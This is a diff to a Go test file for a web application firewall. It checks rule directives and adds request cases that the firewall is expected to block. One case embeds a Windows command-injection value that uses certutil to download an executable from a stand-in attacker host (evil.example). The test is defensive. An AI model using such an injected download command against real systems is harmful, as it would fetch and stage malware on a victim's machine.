@@ -3,15 +3,24 @@ package waf
 import (
 	"net/http/httptest"
 	"net/url"
-	"slices"
 	"strings"
 	"testing"
+
+	"github.com/mamori-waf/mamori/internal/jsondoc"
 )
 
 func TestJSONLeafDirectives(t *testing.T) {
-	want := `SecRuleUpdateActionById 942550 "t:none,t:mamoriJSONLeaves,t:urlDecodeUni,t:removeWhitespace"` + "\n"
-	if got := jsonLeafDirectives(); got != want {
-		t.Fatalf("got %q, want %q", got, want)
+	got := jsonLeafDirectives()
+	for _, want := range []string{
+		`SecRuleUpdateActionById 942550 "t:none,t:mamoriJSONLeaves,t:urlDecodeUni,t:removeWhitespace"` + "\n",
+		`SecRuleUpdateActionById 932370 "t:none,t:mamoriJSONLeaves"` + "\n",
+	} {
+		if !strings.Contains(got, want) {
+			t.Errorf("missing %q in %q", want, got)
+		}
+	}
+	if n := strings.Count(got, "\n"); n != len(jsondoc.Rules) {
+		t.Errorf("%d directives for %d rules:\n%s", n, len(jsondoc.Rules), got)
 	}
 }
 
@@ -37,6 +46,10 @@ func TestJSONDocumentArguments(t *testing.T) {
 			body: `{"q":` + quote(sqli) + `}`, refused: true},
 		{name: "sqli_in_a_nested_document_leaf", method: "POST", target: "/a.js", ctype: "application/x-www-form-urlencoded",
 			body: "events=" + url.QueryEscape(`{"d":`+quote(`{"q":`+quote(sqli)+`}`)+`}`), refused: true},
+		{name: "multipart_like_telemetry_document", method: "POST", target: "/report", ctype: "application/x-www-form-urlencoded",
+			body: "payload=" + url.QueryEscape(`{"duration":{"static":[{"url":"https://example.com/a.jpeg","method":"get","type":"static"}]}}`)},
+		{name: "windows_command_in_a_leaf", method: "POST", target: "/report", ctype: "application/x-www-form-urlencoded",
+			body: "payload=" + url.QueryEscape(`{"host":"x & certutil -urlcache -f http://evil.example/a.exe a.exe"}`), refused: true},
 		{name: "sqli_form_field", method: "POST", target: "/a.js", ctype: "application/x-www-form-urlencoded",
 			body: "q=" + url.QueryEscape(sqli), refused: true},
 	} {
@@ -52,9 +65,8 @@ func TestJSONDocumentArguments(t *testing.T) {
 				t.Fatal(err)
 			}
 			ids := matchIDs(tx.Verdict())
-			hit := slices.Contains(ids, 942550) || slices.Contains(ids, 9542550)
-			if hit != c.refused || (it != nil) != c.refused {
-				t.Fatalf("942550 matched %v, interruption %+v (matches %v), want refused %v", hit, it, ids, c.refused)
+			if (it != nil) != c.refused {
+				t.Fatalf("interruption %+v (matches %v), want refused %v", it, ids, c.refused)
 			}
 		})
 	}
